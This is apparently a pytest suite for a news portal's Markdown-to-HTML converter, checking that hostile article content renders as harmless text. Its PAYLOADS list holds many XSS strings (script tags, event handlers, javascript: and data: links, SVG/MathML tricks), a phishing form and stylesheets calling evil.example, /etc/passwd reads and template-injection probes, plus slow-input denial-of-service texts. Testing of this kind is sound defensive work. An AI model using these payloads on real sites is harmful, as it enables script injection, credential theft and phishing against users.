"""Whatever an article contains, readers get none of its author's code: neither in the body nor around it."""

from __future__ import annotations

import json
import re
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from hypothesis import example, given
from hypothesis import strategies as st

from plugins.markdown_reader import html
from plugins.problems import ContentError
from tests import editors, portals

# what a body may contain; stricter than html.py's own table, since the test must not depend on that
ALLOWED = {
    "a",
    "abbr",
    "b",
    "bdi",
    "bdo",
    "blockquote",
    "br",
    "caption",
    "cite",
    "code",
    "col",
    "colgroup",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "footer",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "mark",
    "ol",
    "p",
    "pre",
    "q",
    "rp",
    "rt",
    "ruby",
    "s",
    "samp",
    "section",
    "small",
    "span",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "time",
    "tr",
    "u",
    "ul",
    "var",
    "wbr",
}
ATTRIBUTES = {
    "alt",
    "aria-label",
    "class",
    "colspan",
    "datetime",
    "dir",
    "headers",
    "href",
    "hreflang",
    "id",
    "lang",
    "reversed",
    "role",
    "rowspan",
    "scope",
    "span",
    "src",
    "start",
    "tabindex",
    "title",
    "type",
}
CLASSES = {"scroll", "footnote", "footnote-ref", "footnote-backref", "right", "center"}
SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):", re.I)

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)" alt="x">',
    "<IMG SRC=x OnErRoR=alert(1)>",
    '<img src="javascript:alert(1)" alt="x">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="x">',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://x/1)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    '[x][r]\n\n[r]: https://x.example "\\" onclick=\\"alert(1)"',
    "<javascript:alert(1)>",
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="https://x.example" onclick="alert(1)" style="position:fixed" target="_blank" ping="https://e">x</a>',
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math href="javascript:alert(1)">x</math>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=x></object><embed src=x>",
    "<style>body { display: none }</style>",
    "<style><!--</style><img src=x onerror=alert(1)>-->",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name="matkhau" type="password"><button>Gửi</button></form>',
    "<textarea><img src=x onerror=alert(1)></textarea>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<title><p id="</title><img src=x onerror=alert(1)>"></title>',
    "<template><img src=x onerror=alert(1)></template>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onclick=alert(1)>x</x>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div class="tools skip" id="noi-dung" role="alert" tabindex="7">x</div>',
    "## x {: onclick=alert(1) style=color:red #status .tools }",
    "chữ *nghiêng*{: onclick=alert(1) onmouseover='alert(1)' }",
    "[x](https://x.example){: onclick=alert(1) target=_blank href=javascript:alert(1) }",
    "chữ\n{: onclick=alert(1) }",
    '<div markdown="1" onclick="alert(1)">\n\n<script>alert(1)</script>\n\n</div>',
    '*[x]: " onclick=alert(1)\n\nx',
    "[^x]\n\n[^x]: <script>alert(1)</script>",
    "| <script>alert(1)</script> | b |\n|--|--|\n| <img src=x onerror=alert(1)> | 2 |",
    "Bảng: <script>alert(1)</script>\n\n| a | b |\n|--|--|\n| 1 | 2 |",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```\n<script>alert(1)</script>\n```",
    "``` {: onclick=alert(1) .tools #status }\n</code></pre><script>alert(1)</script>\n```",
    '~~~ "><img src=x onerror=alert(1)>\nx\n~~~',
    "<pre onclick=alert(1) tabindex=7 class=tools><script>alert(1)</script></pre>",
    (
        '<p>Bảng 1. "><img src=x onerror=alert(1)> \' " {static}</p><table onclick=alert(1)><tr><th '
        "title='\"><script>'>&lt;script&gt;</th></tr></table>"
    ),
    '<table><caption>" onclick=alert(1) x=" \' &lt;img src=x onerror=alert(1)&gt; {{ 7*7 }}</caption><tr><td>x</table>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php alert(1) ?>",
    "<% alert(1) %>",
    "<!DOCTYPE html><html><head><script>alert(1)</script>",
    "{{ 7*7 }} {% include '/etc/passwd' %} {{ config }}",
    "</div></article></main><script>alert(1)</script>",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>\x02amp\x03",
    "<a title=\"x href='{static}/../../mat.txt'\">x</a>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    '<time datetime="<script>">x</time><abbr title="{{ 7*7 }}">y</abbr>',
    "<p dir=rtl lang='\"><script>'>x</p>",
]


class Elements(HTMLParser):
    """Everything that a browser would make of a text: elements with their attributes, comments, declarations."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, attrs))

    def handle_comment(self, data: str) -> None:
        self.elements.append(("!--", []))

    handle_decl = handle_pi = unknown_decl = handle_comment


def assert_harmless(body: str) -> None:
    for tag, attributes in Elements(body).elements:
        assert tag in ALLOWED, (tag, body)
        for name, value in attributes:
            assert name in ATTRIBUTES, (name, body)
            if name == "class":
                assert set((value or "").split()) <= CLASSES, body
            if name == "id":
                assert re.match(r"muc-|fn", value or ""), body
            if name == "href":
                address = re.sub(r"^[\x00-\x20]+|[\t\n\r]", "", value or "")  # as browsers do
                scheme = SCHEME.match(address)
                assert not scheme or scheme[1].lower() in {"http", "https", "mailto", "tel"}, body
            if name == "src":
                assert (value or "").startswith("{picture}"), body


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_body_has_nothing_but_text_and_harmless_elements(payload: str, tmp_path: Path) -> None:
    for markdown in (
        payload,
        f"chữ {payload} chữ",
        f"> - {payload}",
        f"## {payload}",
        f"[{payload}](https://x.example)",
    ):
        assert_harmless(html.convert(markdown, str(tmp_path / "a.md"), str(tmp_path), "vi").html)


_PIECES = st.sampled_from(
    [*PAYLOADS, *"<>\"'&`*_[](){}!#|:/\\=\n\t -~^", "\n\n", "    ", "<a href=", "onerror=", "{: ", "]: ", "script", "ữ"]
)


@given(st.lists(_PIECES | st.text(max_size=5), max_size=12).map("".join))
@example('<p title="<img src=x onerror=alert(1)>">')
def test_whatever_is_written_the_body_is_harmless(markdown: str) -> None:
    assert_harmless(html.convert(markdown, "/nowhere/content/a.md", "/nowhere/content", "vi").html)


# --- slow input ---

MANY = 10_000
SLOW = {
    "quotes": ">" * MANY,
    "spaced quotes": "> " * MANY,
    "lists": "- " * MANY,
    "numbers": "1. " * MANY,
    "open": "[" * MANY,
    "open and closed": "[" * MANY + "]" * MANY,
    "pictures": "![" * MANY,
    "links": "[a](" * MANY,
    "stars": "*a **b " * MANY,
    "backquotes": "`a " * MANY,
    "tags": "<a " * MANY,
    "addresses": "<http://" * MANY,
    "comments": "<!--" * MANY,
    "elements": "<div>" * MANY,
    "markdown in html": '<div markdown="1">' * 2_000,
    "entities": "&#" * MANY,
    "notes": "[^a] " * MANY,
    "open notes": "[^" * MANY,
    "attributes": "# a {#" * 3_000,
    "table": "|" * MANY + "\n" + "|-" * MANY,
    "steps in": "\n".join("    " * i + "- x" for i in range(1_000)),
    "quotes in quotes": "\n".join(">" * i + " a" for i in range(300)),
    "fences": "```\n" * (MANY + 1),
    "open fences": "```a\n\n" * MANY,
    "fence and spaces": "```" + " " * MANY + "x",
    "longer fences": "\n".join("~" * (1_500 - i) + "x" for i in range(1_490)),
    "tables in html": "<div><table></table>" * 5_000,
    "tables in tables": "<table><tr><td>" * MANY,
    "a megabyte": "chữ " * 250_000,
    "blank lines": "\n" * 200_000 + "x",
    "definitions": "a\n: b\n\n" * 2_000,
    "emphasis": "*_" * 400 + "a" + "_*" * 400,
    "cdata": "<![CDATA[" * MANY,
    "instructions": "<?" * MANY,
    "escapes": "\\" * MANY,
}


@pytest.mark.parametrize("name", SLOW)
def test_pathological_texts_are_converted_quickly(name: str) -> None:
    begun = time.process_time()  # CPU time: other work on the machine does not count
    body = html.convert(SLOW[name], "/nowhere/content/a.md", "/nowhere/content", "vi", 5)
    assert time.process_time() - begun < 5
    assert body.html or (not body.html and (body.problems or not SLOW[name].strip('<div markown=1">?!-[CDATA')))  # noqa: B005


def test_an_article_after_a_pathological_one_is_converted_as_usual() -> None:
    text = "# A\n\n- một\n- hai[^1]\n\n[^1]: Ba"
    before = html.convert(text, "/nowhere/content/a.md", "/nowhere/content", "vi").html
    html._markdown().parser.state.set("list")  # the state in which a RecursionError leaves it
    deep = "\n\n".join("    " * i + "1. x" for i in range(49))
    html.convert(deep, "/nowhere/content/a.md", "/nowhere/content", "vi")
    monkey = html.find_excessive_nesting
    try:
        html.find_excessive_nesting = lambda text: None  # type: ignore[assignment]
        body = html.convert("- " * MANY + "x", "/nowhere/content/a.md", "/nowhere/content", "vi")
    finally:
        html.find_excessive_nesting = monkey  # type: ignore[assignment]
    assert [p.level for p in body.problems] == ["error"]
    assert html.convert(text, "/nowhere/content/a.md", "/nowhere/content", "vi").html == before


@pytest.mark.parametrize(
    "text",
    [
        "- a\n    - b\n        - c\n            - d",
        "> > > a",
        "(a [b] (c)) " * 5_000,
        "1 < 2 và a<b " * 1_000,
        "[x](https://a.vn) " * 5_000,
    ],
)
def test_ordinary_nesting_is_not_an_error(text: str) -> None:
    assert not html.convert(text, "/nowhere/content/a.md", "/nowhere/content", "vi").problems


# --- the whole page ---

EVIL = """\"><script>alert('xss')</script><img src=x onerror=alert(1)> {{ 7*7 }} {% raw %} ' & </title></style>"""


@pytest.fixture(scope="module")
def evil_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A portal whose authors are hostile: every payload is an article, one has payloads in every key."""
    root = tmp_path_factory.mktemp("evil")
    content = editors.write_small_content(root / "content")
    editors.write_file(content, "images/a.png", editors.photo())
    (root / "mat.txt").write_text("bí mật", encoding="utf-8")
    for number, payload in enumerate(PAYLOADS):
        try:
            body = html.convert(payload, str(content / "articles/2026/x.md"), str(content), "vi")
        except ContentError:
            continue
        if not any(problem.level == "error" for problem in body.problems):
            editors.write_article(content, f"p-{number}.md", payload)
    quoted = "'" + EVIL.replace("'", "''") + "'"
    keys = dict.fromkeys(("title", "category", "summary", "source"), quoted)
    alt = EVIL.replace("]", "").replace('"', "&quot;")
    editors.write_article(
        content,
        "evil.md",
        f"![{alt}](../../images/a.png '{EVIL.replace(chr(39), '')}')\n\nChữ",
        tags=f"[{quoted}]",
        authors=f"[{quoted}]",
        source_url="https://x.example/?q=</script><b>".replace("<", "%3C").replace(">", "%3E"),
        **keys,
    )
    editors.write_file(
        content,
        "pages/trang.md",
        f"---\ntitle: {quoted}\nsummary: {quoted}\n---\n\n{EVIL.replace('<img src=x', '<b')}\n",
    )
    settings = f"CACHE_PATH = {str(root / 'cache')!r}\nFOOTER_PAGES.append('trang')"
    result = portals.build(root / "output", content, settings=settings, env=editors.ENGLISH)
    assert result.returncode == 0, result.stderr
    return root / "output"


def test_most_payloads_are_published_as_text(evil_site: Path) -> None:
    assert len(list(evil_site.glob("bai-viet/p-*"))) > len(PAYLOADS) / 2
    assert (evil_site / "bai-viet/evil/index.html").exists()


def test_no_page_has_a_script_beyond_the_sites_own(evil_site: Path) -> None:
    own = {(None, editors.read_page(evil_site / "404.html").script.get_text())}
    own |= {(f"/{file.relative_to(evil_site).as_posix()}", "") for file in evil_site.rglob("*.js")}
    for address, page in editors.read_pages(evil_site).items():
        data = [s.extract() for s in page.find_all("script", type="application/ld+json")]
        assert {(s.get("src"), s.get_text()) for s in page.find_all("script")} <= own, address
        assert all(json.loads(s.get_text())["@context"] == "https://schema.org" for s in data), address


def test_no_page_has_an_event_attribute_or_a_foreign_address_or_element(evil_site: Path) -> None:
    for address, page in editors.read_pages(evil_site).items():
        for element in page.find_all(True):
            assert not [a for a in element.attrs if a.lower().startswith("on") or a in ("style", "srcdoc")], (
                address,
                element,
            )
            for name in ("href", "src", "action", "data"):
                assert not re.match(r"\s*(javascript|data|vbscript|file|blob):", element.get(name, ""), re.I), (
                    address,
                    element,
                )
        assert not page.find(["iframe", "object", "embed", "base", "style", "math", "textarea", "video"]), address
        own_forms = page.select('form[action^="/danh-gia?"]')  # an article has one form, the portal's own
        assert len(own_forms) == ("bai-viet/" in address), address
        for form in own_forms:
            form.decompose()
        for form in page.select("form.ask"):  # on pages for errors
            form.decompose()
        assert not page.select("main form, main input") or "tim-kiem" in address, address
        assert not page.find("meta", attrs={"http-equiv": True}), address


def test_every_word_of_a_header_is_shown_as_text(evil_site: Path) -> None:
    page = editors.read_page(evil_site / "bai-viet/evil/index.html")
    text = " ".join(EVIL.split())
    assert page.h1.get_text() == text
    assert page.select_one(".lead").get_text() == text
    assert page.select_one(".tags a").get_text() == text
    assert text in page.title.get_text()
    assert page.select_one(".rail").get_text().count(text) == 2  # author and source
    assert page.select_one(".crumb a[href^='/chuyen-muc/']").get_text() == text


def test_template_code_of_an_author_is_not_run(evil_site: Path) -> None:
    page = editors.read_page(evil_site / "bai-viet/evil/index.html")
    assert "49" not in page.h1.get_text()
    assert "{{ 7*7 }}" in page.h1.get_text()


def test_nothing_outside_the_content_is_published(evil_site: Path) -> None:
    assert not [p for p in evil_site.rglob("*") if p.is_file() and "bí mật".encode() in p.read_bytes()]


def test_ids_of_the_page_cannot_be_reused(evil_site: Path) -> None:
    for address, page in editors.read_pages(evil_site).items():
        ids = [element["id"] for element in page.find_all(id=True)]
        assert len(ids) == len(set(ids)), address


def test_the_checks_detect_payloads() -> None:
    for tag, attributes in (
        ("script", ""),
        ("p", "onclick=x"),
        ("a", "href=javascript:x"),
        ("p", "class=tools"),
        ("p", "id=status"),
    ):
        with pytest.raises(AssertionError):
            assert_harmless(str(BeautifulSoup(f"<{tag} {attributes}>x</{tag}>", "html.parser")))
